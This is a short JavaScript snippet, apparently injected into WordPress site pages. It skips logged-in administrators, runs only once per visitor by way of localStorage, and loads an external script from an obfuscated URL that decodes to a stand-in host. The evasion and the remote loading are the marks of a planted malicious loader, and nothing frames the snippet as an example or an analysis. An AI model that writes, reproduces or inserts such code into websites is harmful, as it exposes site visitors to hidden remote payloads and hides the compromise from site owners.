;(function (d, u, t) {
  if (/wordpress_logged_in|wp-settings/.test(d.cookie) || d.getElementById('wpadminbar')) return;
  var k = '_shw';
  if (localStorage.getItem(k)) return;
  localStorage.setItem(k, 1);
  var s = d.createElement(t);
  s.async = 1;
  s.src = u.replace(/#/g, 'e').replace(/!/g, 'a');
  d.head.appendChild(s);
})(document, 'https://r#port.upd!t#.#x!mpl#/j/r', 'script');
